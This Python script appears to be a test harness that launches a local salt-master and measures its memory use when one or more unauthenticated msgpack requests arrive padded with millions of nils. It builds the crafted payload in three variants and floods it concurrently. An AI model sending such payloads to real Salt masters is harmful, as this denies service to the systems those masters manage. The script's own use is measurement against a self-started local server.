#!/usr/bin/env python3
"""What one unauthenticated request can make a master hold while it answers: a clear
request whose bytes are mostly nils (one byte each on the wire, about 40 bytes each once
decoded into a tree), sent `COPIES` at once, and the master's peak resident memory
(`VmHWM`) and reply time.

    decode_flood.py BINDIR NILS [COPIES]

`MODE` (environment) chooses where the nils go:
- `load` (default): `{"enc": "clear", "load": {"cmd": "ping", "pad": [nil × NILS]}, "version": 3}`;
- `trail`: the same body and one byte after it (a body that does not decode: the
  master looks for the words of its error);
- `enc`: the nils in the `enc` field instead of a string.

BINDIR holds `salt-master` (a release build's `target/release`). The master runs on a
fresh state directory under /tmp and is stopped by PID.
"""
import os
import sys
import tempfile
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import swarm  # noqa: E402
import msgpack  # noqa: E402
import zmq  # noqa: E402

PORT = 23716


def peak(pid):
    fields = dict(l.split(":", 1) for l in open(f"/proc/{pid}/status") if l.startswith(("VmHWM", "VmRSS")))
    return {k: int(v.split()[0]) // 1024 for k, v in fields.items()}


def main():
    swarm.BIN = sys.argv[1]
    n = int(sys.argv[2])
    copies = int(sys.argv[3]) if len(sys.argv) > 3 else 1
    mode = os.environ.get("MODE", "load")
    pad = b"\xdd" + n.to_bytes(4, "big") + b"\xc0" * n
    if mode == "enc":
        body = msgpack.packb({"enc": None, "load": {"cmd": "ping"}, "version": 3}).replace(b"\xa3enc\xc0", b"\xa3enc" + pad)
    else:
        body = msgpack.packb({"enc": "clear", "load": {"cmd": "ping", "pad": None}, "version": 3}).replace(b"\xa3pad\xc0", b"\xa3pad" + pad)
        if mode == "trail":
            body += b"\xc0"
    root = tempfile.mkdtemp(prefix="decode-flood-")
    m = swarm.Master("halite", root, PORT)
    m.start()
    try:
        before = peak(m.proc.pid)
        ctx = zmq.Context()
        replies = []

        def one():
            s = ctx.socket(zmq.REQ)
            s.setsockopt(zmq.RCVTIMEO, 300000)
            s.setsockopt(zmq.LINGER, 0)
            s.connect(f"tcp://127.0.0.1:{PORT}")
            t = time.time()
            s.send(body)
            r = s.recv()
            replies.append((len(r), round(time.time() - t, 2)))
            s.close()

        threads = [threading.Thread(target=one) for _ in range(copies)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        after = peak(m.proc.pid)
        print({"bin": sys.argv[1], "mode": mode, "nils": n, "copies": copies, "body_bytes": len(body),
               "reply_bytes_and_seconds": replies, "rss_mib_before": before["VmRSS"], "peak_rss_mib": after["VmHWM"], "rss_mib_after": after["VmRSS"]})
    finally:
        m.stop()


if __name__ == "__main__":
    main()
